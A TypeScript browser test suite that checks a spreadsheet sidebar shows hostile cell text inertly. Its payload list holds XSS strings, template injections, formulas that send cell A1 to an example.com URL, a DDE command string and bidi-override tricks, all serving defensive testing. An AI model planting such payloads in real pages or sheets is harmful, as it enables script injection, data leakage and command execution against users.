import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { mount, openBrowser, sidebarHtml } from "./mount";
import { expectSound } from "./page-checks";
import { readingOf } from "./plans";
import { callsOf } from "./sheet";

/** Texts that a cell may hold and that must stay texts. Each would raise `window.harmed` or open a dialog if it were taken for markup. */
const HOSTILE = [
  `<script>window.harmed = 1</script>`,
  `<img src=x onerror="window.harmed=1">`,
  `<svg/onload=window.harmed=1>`,
  `"><iframe srcdoc="<script>parent.harmed=1</script>">`,
  `<a href="javascript:window.harmed=1">click</a>`,
  `javascript:window.harmed=1`,
  `</span></button></style></script><script>window.harmed=1</script>`,
  `<style>*{display:none}</style>`,
  `{{constructor.constructor("window.harmed=1")()}} \${window.harmed=1}`,
  `<!-- <?= window.harmed = 1 ?> -->`,
  `=HYPERLINK("https://example.com/?" & A1, "click")`,
  `=IMPORTXML(CONCAT("https://example.com/?", A1), "//a")`,
  `+1+cmd|' /C calc'!A0`,
  `&lt;b&gt;&amp;#x3C;script&#x3E; &nbsp;`,
  `\u202egnirts\u202c \u2066isolated and never closed`,
  `\u202Eoverride and never closed <b>`,
  `lone surrogate \ud83d and null-like \ufffd \u0085`,
  `__proto__`,
];

let browser: Browser;
let html: string;
let page: Page;

beforeAll(async () => {
  [browser, html] = await Promise.all([openBrowser(), sidebarHtml()]);
});
afterAll(() => browser.close());
afterEach(() => page.context().close());

/** What a hostile text would have left behind. */
function harm(): Promise<unknown> {
  return page.evaluate(() => ({
    harmed: (window as unknown as { harmed?: unknown }).harmed ?? null,
    strange: [...document.body.querySelectorAll("#sidebar :is(script, img, iframe, a, style, object, embed, link)")].map(({ outerHTML }) => outerHTML),
    handlers: [...document.body.querySelectorAll("*")].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on"))),
  }));
}

const UNHARMED = { harmed: null, strange: [], handlers: [] };

/** A text after its way through JSON and the page: a lone surrogate cannot be shown. */
const shown = (text: string) => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])/g, "\ufffd");

describe("text from cells", () => {
  it("is shown as it is, whatever it looks like", async () => {
    const plan = readingOf(HOSTILE.map((text, index) => ({ id: text.slice(0, 40), text: "Launch " + text, feeds: HOSTILE[index - 1]?.slice(0, 40) ?? "", owner: text, team: text })));
    page = await mount(browser, { html, plan });
    const rows = page.locator(".row");
    await rows.first().waitFor();
    expect(await rows.count()).toBe(HOSTILE.length);
    for (let index = 0; index < HOSTILE.length; index++) await rows.nth(index).click();
    const texts = (await page.locator(".row .text").allTextContents()).map(shown);
    expect(new Set(texts)).toEqual(new Set(HOSTILE.map((text) => shown("Launch " + text))));
    expect(await harm()).toEqual(UNHARMED);
    await expectSound(page);
  });

  it.each(HOSTILE.slice(0, 6))("typed into a gap is written as it is and shown as text: %s", async (text) => {
    page = await mount(browser, { html, plan: readingOf([{ id: "KR1", text: "Launch it" }]) });
    await page.locator(".row").click();
    for (const field of await page.locator(".gap input").all()) await field.fill(text);
    const sentence = `Raise ${text} from ${text} to ${text} a month`;
    expect(await page.locator(".result p").textContent()).toBe(sentence);
    await page.locator(".rewrite .primary").click();
    await page.locator(".notice").waitFor();
    expect((await callsOf(page, "applyRewrite"))[0]?.[2]).toBe(sentence);
    expect(await harm()).toEqual(UNHARMED);
  });

  it("in an error or a refusal is shown as text", async () => {
    const text = HOSTILE[1] ?? "";
    page = await mount(browser, { html, plan: readingOf([{ id: "KR1", text: "Fine" }]), answers: { readPlan: [{ fail: text }] } });
    expect(await page.getByRole("alert").textContent()).toContain(text);
    expect(await harm()).toEqual(UNHARMED);
  });

  it("never turns the words around it", async () => {
    page = await mount(browser, { html, plan: readingOf([{ id: "\u202eKR1", text: "\u202eReversed" }, { id: "KR2", text: "Plain and next to it" }]) });
    const direction = await page.locator(".row").nth(1).locator(".text").evaluate((element) => getComputedStyle(element).unicodeBidi);
    expect(direction).toMatch(/isolate|plaintext/);
    expect(await page.locator(".row .id").first().evaluate((element) => getComputedStyle(element).unicodeBidi)).toMatch(/isolate/);
  });
});
